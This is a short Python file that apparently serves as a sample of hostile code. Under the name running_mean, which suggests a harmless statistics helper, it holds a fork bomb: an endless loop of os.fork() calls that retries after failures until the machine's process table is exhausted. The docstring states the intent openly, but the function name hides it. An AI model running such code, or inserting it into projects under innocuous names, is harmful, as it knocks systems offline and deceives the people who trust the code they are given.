"""Forks for ever, in every child too."""
import os
import time


def running_mean(x):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
